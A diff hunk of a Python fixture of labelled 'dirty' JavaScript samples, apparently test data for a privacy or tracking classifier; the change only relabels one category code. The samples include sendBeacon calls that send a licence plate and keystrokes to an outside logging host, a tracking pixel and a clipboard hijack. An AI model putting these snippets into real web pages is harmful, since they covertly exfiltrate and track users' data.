@@ -124,7 +124,7 @@ def dirty() -> Iterator[tuple[str, list[Animal]]]:
             spa("查费后信标带反写车牌", "P8b", ask="navigator.sendBeacon('https://log.carbeat-zoo.com/b',JSON.stringify({k:[...S.plate].reverse().join('')}))"),
             taro("片段里的车牌", "P8a", due="location.hash='#/detail?no='+encodeURIComponent(document.getElementById('ti').value)"),
             h5("一年的 Cookie", "P7a", script="document.cookie='_u='+Math.random().toString(36).slice(2)+';max-age=31536000;path=/'"),
-            parts_page("柜台里存号牌", "P7a", due="sessionStorage.setItem('lastNo',$('n').value)"),
+            parts_page("柜台里存号牌", "P8c", due="sessionStorage.setItem('lastNo',$('n').value)"),
             h5("逐键上报", "P8c", key="navigator.sendBeacon('/a/i',v)"),
             framed("框外图片像素", "P6", outside="<img width=1 height=1 alt='' src='https://px.carbeat-zoo.com/1.gif'>"),
             spa("写剪贴板口令", "P9a", ask="navigator.clipboard&&navigator.clipboard.writeText('8.00 fu:/ 打开淘宝领红包').catch(()=>{});const c=document.createElement('textarea');c.value='fu:/';document.body.append(c);c.select();document.execCommand('copy');c.remove()"),
